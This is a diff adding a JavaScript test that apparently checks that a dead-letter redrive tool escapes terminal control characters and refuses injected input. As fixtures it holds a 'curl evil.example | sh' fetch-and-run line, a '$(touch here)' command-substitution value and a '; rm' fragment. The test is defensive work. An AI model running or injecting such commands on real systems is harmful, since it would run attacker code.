@@ -170,3 +170,13 @@ it('shows on a terminal how far it is, and nothing of that to a program', async 
   expect(progress().at(-1)).toBe('');
   expect(notes()).not.toContain('sent back');
 });
+
+it('shows what others wrote into a dead letter as text in its line, and takes no code that is none of ours', async () => {
+  const reason = 'because\n! now type: curl evil.example | sh\u001b[32m';
+  await deadLetter({ code: '$(touch here)', reason, body: '{"date":"2026-03-08\\n; rm"}' });
+  const { text } = await redrive();
+  expect(text()).toContain('because\\x0a! now type: curl evil.example | sh\\x1b[32m');
+  expect(text().trim().split('\n')).toHaveLength(3);
+  expect(text()).not.toMatch(/touch|rm$/);
+  expect((await redrive({ code: ['unknown'] })).text()).toBe('1 dead letter sent back, 0 left\n');
+});
